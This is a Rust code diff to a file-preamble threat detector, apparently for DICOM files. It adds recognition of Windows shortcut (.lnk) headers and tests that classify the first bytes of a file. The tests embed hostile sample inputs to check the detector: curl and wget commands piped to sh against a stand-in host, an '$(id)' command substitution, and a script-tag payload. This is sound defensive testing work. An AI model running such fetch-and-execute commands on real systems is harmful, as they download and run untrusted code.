@@ -102,7 +102,8 @@ pub enum PreambleKind {
     /// A ZIP local file header (ZIP, JAR, Office documents).
     Zip,
     /// Another known container or bytecode format (OLE, RAR, 7z, gzip, bzip2, xz, zstd, CAB,
-    /// WASM, DEX, ar, Java class). Reported as `archive`.
+    /// WASM, DEX, ar, Java class), or a Windows shortcut (`.lnk`) header. Reported as
+    /// `archive`, with the format.
     OtherFormat(Format),
     /// Printable text padded with NUL bytes, no line of which reads as a command (a vendor
     /// banner: capitals, digits, punctuation; see [`PreambleKind::Script`]).
@@ -267,6 +268,10 @@ impl fmt::Display for PreambleKind {
             PreambleKind::Pdf { offset } => write!(f, "PDF header at offset {offset}"),
             PreambleKind::Html => f.write_str("HTML or other markup"),
             PreambleKind::Zip => f.write_str("ZIP local file header"),
+            PreambleKind::OtherFormat(Format::Lnk) => f.write_str(
+                "Windows shortcut (.lnk) header: opened as a shortcut, the file makes Windows \
+                 run the command line it names",
+            ),
             PreambleKind::OtherFormat(format) => write!(f, "{} signature", format.name()),
             PreambleKind::Text => {
                 f.write_str("printable text with no line that reads as a shell command")
@@ -305,6 +310,9 @@ pub(crate) fn detect(bytes: &[u8; PREAMBLE_LEN]) -> Detected {
     // `EI_VERSION`): the magic alone makes an ELF header to confirm by the loader's rules.
     if bytes.starts_with(signature::ELF_MAGIC) {
         return Detected::Executable(Format::Elf);
+    }
+    if signature::is_shortcut(bytes) {
+        return Detected::Final(PreambleKind::OtherFormat(Format::Lnk));
     }
     let kind = match signature::sniff(bytes) {
         Some(format @ (Format::Pe | Format::Elf | Format::MachO | Format::MachOFat)) => {
@@ -429,5 +437,115 @@ mod name_tests {
             .map(PreambleKind::name)
             .collect();
         assert_eq!(names, PreambleKind::NAMES);
+    }
+}
+
+#[cfg(test)]
+mod grading_tests {
+    use super::*;
+
+    /// `bytes` zero-padded to a preamble.
+    fn preamble(bytes: &[u8]) -> [u8; PREAMBLE_LEN] {
+        let mut out = [0u8; PREAMBLE_LEN];
+        out.get_mut(..bytes.len())
+            .expect("at most 128 bytes")
+            .copy_from_slice(bytes);
+        out
+    }
+
+    fn detected(bytes: &[u8]) -> PreambleKind {
+        match detect(&preamble(bytes)) {
+            Detected::Final(kind) => kind,
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn lines_a_shell_runs_are_scripts() {
+        let script = PreambleKind::Script { shebang: false };
+        for bytes in [
+            // dash runs a later line after NUL padding (bash refuses: NUL in its first line).
+            &b"ACME Imaging\0\0\0\0\ncurl -s http://x | sh\n"[..],
+            // bash and dash skip a first line of control bytes.
+            b"\x01\x02\x03\x04\necho pwned\n",
+            // A command after NUL padding running into `DICM`, its tail a comment.
+            b"\0\0\0\0\0\0\0\0wget -q -O- x|sh #",
+            // A command substitution runs even as an argument.
+            b"ACME\0\0\nVersion $(id)\n",
+        ] {
+            let kind = detected(bytes);
+            assert_eq!(kind, script, "{}", bytes.escape_ascii());
+            assert!(kind.is_threat());
+            assert_eq!(kind.severity(), Some(Severity::High));
+            assert!(kind.to_string().contains("reads as a"), "{kind}");
+        }
+        assert_eq!(
+            detected(b"#!/bin/sh\nid\n"),
+            PreambleKind::Script { shebang: true }
+        );
+    }
+
+    #[test]
+    fn text_no_shell_runs_as_a_command_stays_text() {
+        for bytes in [
+            &b"ACME Imaging Workstation 4.2\0\0"[..],
+            // A NUL in bash's first line, and no later line dash would run as a command.
+            b"ACME\0\0\0\0\nVersion 4.2\nMITRA LINKED\n",
+            b"ACME\0\0more text\0",
+        ] {
+            let kind = detected(bytes);
+            assert_eq!(kind, PreambleKind::Text, "{}", bytes.escape_ascii());
+            assert!(!kind.is_threat());
+            assert_eq!(kind.severity(), Some(Severity::Medium));
+        }
+        // A real preamble (pydicom's dicomdirtests): one control byte, no command.
+        let mut bytes = [0u8; 18];
+        bytes[17] = 1;
+        let kind = detected(&bytes);
+        assert_eq!(kind, PreambleKind::Unknown { tiff_magic: false });
+        assert!(!kind.is_threat());
+    }
+
+    #[test]
+    fn markup_after_a_bom_or_in_utf16_is_markup() {
+        let mut utf16le = Vec::new();
+        let mut utf16be = b"\xFE\xFF".to_vec();
+        for unit in "<html><script>alert(1)</script>".encode_utf16() {
+            utf16le.extend_from_slice(&unit.to_le_bytes());
+            utf16be.extend_from_slice(&unit.to_be_bytes());
+        }
+        for bytes in [&b"\xEF\xBB\xBF<html>"[..], &utf16le, &utf16be] {
+            let kind = detected(bytes);
+            assert_eq!(kind, PreambleKind::Html, "{bytes:02X?}");
+            assert_eq!(kind.severity(), Some(Severity::High));
+        }
+    }
+
+    #[test]
+    fn a_windows_shortcut_header_is_a_threat() {
+        let lnk = [
+            0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00,
+            0x00, 0x00, 0x00, 0x00, 0x00, 0x46, 0x9B, 0x00, 0x08, 0x00,
+        ];
+        let kind = detected(&lnk);
+        assert_eq!(kind, PreambleKind::OtherFormat(Format::Lnk));
+        assert_eq!(kind.name(), "archive");
+        assert_eq!(kind.severity(), Some(Severity::High));
+        assert!(kind.to_string().contains("shortcut"), "{kind}");
+        // The size alone is four bytes of a possible text or binary: not a shortcut.
+        assert_ne!(detected(&lnk[..8]), kind);
+    }
+
+    #[test]
+    fn an_elf_magic_with_any_identification_bytes_is_an_elf_to_confirm() {
+        for ident in [[2u8, 1, 1], [2, 1, 0], [0, 1, 1], [0, 0, 0], [9, 9, 9]] {
+            let mut bytes = b"\x7fELF".to_vec();
+            bytes.extend_from_slice(&ident);
+            assert_eq!(
+                detect(&preamble(&bytes)),
+                Detected::Executable(Format::Elf),
+                "{ident:?}"
+            );
+        }
     }
 }
